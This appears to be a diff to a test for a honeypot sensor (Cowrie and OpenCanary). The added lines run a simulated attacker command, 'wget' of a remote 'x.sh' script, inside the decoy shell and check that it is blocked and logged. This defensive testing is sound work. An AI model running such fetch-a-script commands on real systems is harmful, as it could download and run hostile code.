@@ -107,6 +107,10 @@ def test_real_clients_get_answers_and_every_action_is_a_line(box: SensorBox) -> 
     # SSH: the decky's password gives Cowrie's shell; the command runs and is recorded.
     output, _ = ssh_shell(box.ip, "root", SSH_PASSWORD, "uname -a")
     assert "Linux srv-web1" in output
+    # Downloads are fake: the shell reaches no address, not even a public one by its IP
+    # (Cowrie itself would connect there; the internal network routes nowhere anyway).
+    output, _ = ssh_shell(box.ip, "root", SSH_PASSWORD, "wget http://93.184.216.34/x.sh")
+    assert "unable to resolve host address" in output and "connected" not in output
     with pytest.raises(paramiko.AuthenticationException):
         ssh_shell(box.ip, "root", "wrong-password", "id")
     # Telnet: the same with the telnet password.
@@ -158,8 +162,8 @@ def test_real_clients_get_answers_and_every_action_is_a_line(box: SensorBox) -> 
     }
     failed = box.wait(cowrie("cowrie.login.failed"))[0]["event"]
     assert failed["password"] == "wrong-password"
-    commands = {d["event"]["input"] for d in box.wait(cowrie("cowrie.command.input"), count=2)}
-    assert {"uname -a", "id"} <= commands
+    commands = {d["event"]["input"] for d in box.wait(cowrie("cowrie.command.input"), count=3)}
+    assert {"uname -a", "wget http://93.184.216.34/x.sh", "id"} <= commands
     ftp_line = box.wait(canary(2000))[0]
     assert ftp_line["event"]["logdata"] == {"USERNAME": "backup", "PASSWORD": "ftp-guess-1"}
     get = box.wait(canary(3000))[0]["event"]["logdata"]
